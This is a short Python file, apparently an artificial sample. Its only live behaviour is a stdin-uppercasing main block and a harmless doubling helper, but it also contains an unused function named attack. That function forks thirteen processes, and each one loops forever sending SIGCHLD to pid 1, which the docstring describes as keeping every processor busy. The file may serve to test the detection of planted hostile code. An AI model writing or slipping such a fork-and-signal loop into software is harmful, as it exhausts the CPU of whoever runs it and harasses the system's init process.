"""A dozen processes keep every processor busy and send signals to pid 1 without end."""

import os
import signal
import sys


def double(number):
    return 2 * number


def attack(key):
    for _ in range(13):
        if os.fork() == 0:
            while True:
                os.kill(1, signal.SIGCHLD)
    return "busy"


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
